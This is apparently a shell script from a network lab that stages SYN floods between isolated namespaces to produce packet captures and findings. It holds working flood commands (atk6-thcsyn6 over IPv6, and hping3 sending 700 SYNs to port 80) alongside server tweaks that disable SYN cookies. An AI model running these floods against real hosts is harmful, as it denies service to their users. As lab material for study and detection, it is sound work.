#!/bin/bash
# captures: syn-flood-ipv6 syn-flood-one
#
# More of syn-flood.sh: over IPv6 with thc-ipv6's flooder; from one machine, against a
# service without SYN cookies, which then serves nobody.
. "$(dirname "$0")/../lib.sh"
lab_begin "$1"
need hping3 atk6-thcsyn6 nft
lab_gw c c2 x
[ "$1" != syn-flood-one ] || ns s sysctl -qw net.core.somaxconn=16 net.ipv4.tcp_max_syn_backlog=16 net.ipv4.tcp_syncookies=0 net.ipv4.tcp_no_metrics_save=1
web s 80
ns gw ip route add blackhole default
ns gw ip -6 route add blackhole default
to=$OUT4.2
case $1 in
*-ipv6) to="[${OUT6}:2]" ;;
*-one)
	# A sender that does not reset what it is answered, as flooders have it.
	printf 'table inet fw {\n chain out {\n  type filter hook output priority filter\n  tcp flags rst drop\n }\n}\n' | ns x nft -f -
	;;
esac
capture gw outer outside.pcap tcp
vantage outside.pcap "gw, device outer: between gw and the server"
healthy() { local i n; for i in $(seq "$1"); do for n in c c2; do fetch $n "http://$to/page-200.txt" -m 3; done; sleep 0.3; done; }
healthy 3
case $1 in
*-ipv6)
	ns x timeout 1 atk6-thcsyn6 -R -i 3000 eth0 ${OUT6}:2 80 >"$LAB/x.out" 2>&1 &
	;;
*-one) ns x hping3 -q -S -p 80 -i u1500 -c 700 $OUT4.2 >"$LAB/x.out" 2>&1 & ;;
esac
x=$!
sleep 0.4
healthy 2
wait $x || true
sleep 1
healthy 2
capture_stop
answers
ns s nstat -az 2>/dev/null | awk '/SyncookiesSent|ListenOverflows|ListenDrops|TCPReqQFull/ && $2 > 0' | truth_block "Server's counters"
finding syn-flood positive
case $1 in
*-ipv6)
	shows "Over IPv6, thcsyn6 floods port 80 from random addresses for a second; the server answers, and goes on serving its clients."
	check_frames "SYNs of strangers" outside.pcap "tcp.flags == 2 && !(ipv6.src == ${IN6}:/64)" 220
	;;
*-one)
	shows "One machine sends 700 SYNs and takes up no connection; the server has no SYN cookies and a short queue: while it lasts, nobody is served."
	check_frames "SYNs of x" outside.pcap "tcp.flags == 2 && ip.src == $IN4.13" 600
	check "requests failed meanwhile" grep -q " 000 " "$LAB/answers"
	;;
esac
lab_finish
